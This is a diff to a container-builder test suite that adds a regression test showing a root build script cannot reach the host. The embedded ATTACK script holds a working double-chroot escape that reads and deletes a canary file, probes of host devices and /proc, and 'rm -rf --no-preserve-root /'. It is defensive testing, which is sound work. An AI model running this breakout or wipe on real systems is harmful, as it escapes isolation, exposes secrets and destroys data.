@@ -274,8 +274,8 @@ def venv_catalog(tmp: Path, base: str, backend_name: str) -> Path:
 
 
 def test_venv_with_a_wheel_from_the_build_context(tmp_path, debian_base, registries):
-    cat = venv_catalog(tmp_path, debian_base, "chroot")
-    result = build_environment(load(cat).environments["venv-chroot"], options(tmp_path, registries.tls.cert))
+    cat = venv_catalog(tmp_path, debian_base, "root")
+    result = build_environment(load(cat).environments["venv-root"], options(tmp_path, registries.tls.cert))
     image = read_sif(result.sif)
     mnt = tmp_path / "mnt"
     mnt.mkdir()
@@ -332,3 +332,72 @@ def test_rootless_proot_build(public_dir, tiny_base, public_ca):
     r = unprivileged_build(work, cat, public_ca, "proot")
     assert r.returncode == 0, r.stdout + r.stderr
     assert sif_files(work / "store/envs/p.sif", work, "etc/uid-inside")["etc/uid-inside"] == "0\n"
+
+
+ATTACK = r"""#!/bin/sh
+cat > /tmp/escape.py <<'PY'
+import os, sys
+os.makedirs("/jail", exist_ok=True)
+top = os.open("/", os.O_RDONLY)
+os.chroot("/jail")
+os.fchdir(top)
+for _ in range(64):
+    os.chdir("..")
+os.chroot(".")
+try:
+    print("ESCAPED: read", open(sys.argv[1]).read().strip())
+    os.unlink(sys.argv[1])
+except OSError as e:
+    print("contained:", e.strerror)
+PY
+python3 /tmp/escape.py "$CANARY"
+for f in /dev/*; do [ -b "$f" ] && echo "BLOCK DEVICE $f"; done
+for f in /dev/kvm /dev/kmsg /dev/loop-control /dev/mem; do [ -e "$f" ] && echo "DEVICE $f"; done
+(echo x > /proc/sys/kernel/core_pattern) 2>/dev/null && echo "WROTE core_pattern"
+(echo x > /proc/sysrq-trigger) 2>/dev/null && echo "WROTE sysrq-trigger"
+[ -n "$(head -c 8 /proc/kpageflags 2>/dev/null)" ] && echo "READ kpageflags"
+[ -n "$(ls /sys)" ] && echo "HOST SYS"
+echo "uid inside: $(id -u)"
+rm -rf --no-preserve-root / 2>/dev/null
+echo attack done
+"""
+
+
+def test_a_root_build_cannot_reach_the_host(tmp_path, debian_base, registries):
+    """As root: the double-chroot breakout, devices, /proc and `rm -rf /` from an
+    environment script touch nothing of the host (the tree itself it may destroy).
+    Do not run it against a sandbox you do not trust: on the chroot sandbox before
+    the fix, the breakout read the canary and `rm -rf /` emptied the host's /dev."""
+    assert os.geteuid() == 0
+    canary = tmp_path / "canary"
+    canary.write_text("host secret\n")
+    dev_canary = Path(f"/dev/ib-canary-{os.getpid()}")
+    dev_canary.write_text("in the host's /dev\n")
+    try:
+        cat = write_catalog(tmp_path, [{"name": "attack", "base": debian_base, "scripts": ["attack.sh"],
+                                        "env": {"CANARY": str(canary)}}], {"attack.sh": ATTACK})
+        try:
+            build_environment(load(cat).environments["attack"], options(tmp_path, registries.tls.cert))
+        except BuildFailed:
+            pass  # the tree is gone: packing it may fail; what matters is the host
+        log = (tmp_path / "store/logs/envs/attack/01-attack.sh.log").read_text()
+        assert "attack done" in log, log
+        assert "contained:" in log and "ESCAPED" not in log, log
+        for bad in ("BLOCK DEVICE", "DEVICE /", "WROTE", "READ kpageflags", "HOST SYS"):
+            assert bad not in log, log
+        assert canary.read_text() == "host secret\n"
+        assert dev_canary.read_text() == "in the host's /dev\n"
+        assert Path("/dev/null").exists() and Path("/etc/passwd").exists()
+    finally:
+        dev_canary.unlink(missing_ok=True)
+
+
+def test_builds_and_runs_mask_the_same_proc_files():
+    import re
+
+    from image_builder.runtime.mounts import PROC_MASKED, PROC_READONLY
+
+    init = (ROOT / "image_builder/runtime/native/init.c").read_text()
+    for name, python in (("PROC_MASKED", PROC_MASKED), ("PROC_READONLY", PROC_READONLY)):
+        body = re.search(rf"{name}\[\] = {{(.*?)}};", init, re.S).group(1)
+        assert tuple(re.findall(r'"([^"]+)"', body)) == python, name
